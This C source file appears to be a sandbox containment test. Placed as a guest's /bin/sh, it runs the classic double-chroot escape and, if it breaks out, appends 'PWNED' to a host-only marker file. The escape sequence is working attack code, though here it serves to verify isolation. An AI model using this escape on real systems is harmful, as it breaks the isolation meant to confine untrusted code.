/* Planted as a stopped guest's /bin/sh: whatever runs it tries the double-chroot escape and, if it gets out,
 * appends to MARKER, a file that exists only on the host (compiled in with -DMARKER="..."). */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    mkdir("/.escape", 0700);
    int fd = open("/", O_RDONLY);
    if (chroot("/.escape") == 0 && fchdir(fd) == 0) {
        for (int i = 0; i < 256; i++) chdir("..");
        chroot(".");
    }
    int m = open(MARKER, O_WRONLY | O_APPEND);
    if (m >= 0 && write(m, "PWNED\n", 6) == 6) { puts("ESCAPED"); return 0; }
    puts("contained");
    return 0;
}
